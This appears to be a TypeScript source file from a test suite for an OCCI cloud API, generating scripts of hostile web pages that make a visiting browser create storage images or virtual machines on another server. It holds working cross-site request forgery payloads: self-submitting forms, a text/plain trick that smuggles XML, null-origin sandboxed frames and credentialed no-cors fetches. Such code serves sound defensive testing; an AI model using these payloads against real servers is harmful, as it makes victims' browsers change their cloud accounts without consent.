/** Scripts of hostile web pages: what they make a browser send to another server. */

const STORAGE_XML = (name: string): string =>
  `<STORAGE><NAME>${name}</NAME><TYPE>DATABLOCK</TYPE><SIZE>10</SIZE><FSTYPE>raw</FSTYPE></STORAGE>`;
export const COMPUTE_XML = (name: string): string =>
  `<COMPUTE><NAME>${name}</NAME><INSTANCE_TYPE href="/instance_type/small"/></COMPUTE>`;
const COMPUTE_TEXT = (name: string): string =>
  `Category: compute; scheme="http://schemas.ogf.org/occi/infrastructure#"; class="kind"\nX-OCCI-Attribute: occi.core.title="${name}"`;

/** A form that a page submits by itself: its only field has that name and value. */
function form(url: string, enctype: string, name: string, value: string): string {
  return `(() => {
    const form = Object.assign(document.createElement("form"), ${JSON.stringify({ method: "post", action: url, enctype })});
    const field = Object.assign(document.createElement("textarea"), ${JSON.stringify({ name, value })});
    form.append(field);
    document.body.append(form);
    form.submit();
  })()`;
}

/** Runs a script in a frame of the page. */
function sandboxed(script: string): string {
  const srcdoc = `<body></body><script>${script.replaceAll("</", "<\\/")}</script>`;
  return `(() => {
    const frame = Object.assign(document.createElement("iframe"), ${JSON.stringify({ srcdoc })});
    frame.sandbox = "allow-scripts allow-forms";
    document.body.append(frame);
  })()`;
}

/** A request whose answer the page cannot see. */
const blind = (url: string, type: string, body: string): string =>
  `fetch(${JSON.stringify(url)}, ${JSON.stringify({ method: "POST", mode: "no-cors", credentials: "include", headers: { "content-type": type }, body })})
    .then(({ type }) => type, String)`;

/** What pages send to change something; each makes an image or a machine of that name. */
export interface Attack {
  readonly what: string;
  readonly path: string;
  /** A script of the page. */
  readonly by: (origin: string, name: string) => string;
}
export const ATTACKS: readonly Attack[] = [
  {
    what: "a form, multipart/form-data",
    path: "/storage",
    by: (origin, name) => form(`${origin}/storage`, "multipart/form-data", "occixml", STORAGE_XML(name)),
  },
  {
    what: "a form that its own server sends on",
    path: "/storage",
    by: (origin, name) =>
      form(`/?to=${encodeURIComponent(`${origin}/storage`)}`, "multipart/form-data", "occixml", STORAGE_XML(name)),
  },
  {
    what: "a form in a sandbox, which has no origin",
    path: "/storage",
    by: (origin, name) => sandboxed(form(`${origin}/storage`, "multipart/form-data", "occixml", STORAGE_XML(name))),
  },
  {
    what: "a form, text/plain, that is XML",
    path: "/compute",
    // The browser puts the = between name and value.
    by: (origin, name) =>
      form(`${origin}/compute`, "text/plain", ...(COMPUTE_XML(name).split(/=(.*)/) as [string, string])),
  },
  {
    what: "fetch of application/x-www-form-urlencoded",
    path: "/compute",
    by: (origin, name) => blind(`${origin}/compute`, "application/x-www-form-urlencoded", COMPUTE_XML(name)),
  },
  {
    what: "fetch of text/plain, that is OCCI 1.2",
    path: "/compute/",
    by: (origin, name) => blind(`${origin}/compute/`, "text/plain", COMPUTE_TEXT(name)),
  },
];

/** What pages load into themselves. @returns a script that tells which event came. */
export function embedding(tag: string, url: string): string {
  return `new Promise((tell) => {
    const element = document.createElement(${JSON.stringify(tag)});
    element.onload = () => tell("load");
    element.onerror = () => tell("error");
    element[${JSON.stringify(tag === "object" ? "data" : "src")}] = ${JSON.stringify(url)};
    document.body.append(element);
  })`;
}

/** A link that is clicked. */
export const link = (url: string): string =>
  `Object.assign(document.createElement("a"), ${JSON.stringify({ href: url })}).click()`;
